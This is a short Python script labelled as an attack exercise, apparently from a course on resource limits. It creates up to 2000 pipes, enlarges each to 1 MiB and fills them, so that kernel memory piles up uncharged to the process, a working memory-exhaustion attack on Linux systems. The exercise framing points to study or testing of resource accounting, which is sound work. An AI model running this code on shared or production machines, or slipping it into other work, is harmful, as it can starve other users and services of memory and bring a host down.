"""Fills pipes that it has enlarged, whose memory counts for nobody."""
# attack: week=03 exercise=pyramid
import fcntl
import os

total = 0
try:
    for _ in range(2000):
        ours, theirs = os.pipe()
        os.set_blocking(theirs, False)
        fcntl.fcntl(theirs, fcntl.F_SETPIPE_SZ, 1 << 20)
        total += os.write(theirs, bytes(1 << 20))
except OSError as error:
    print("refused", error)
print("holds", total)
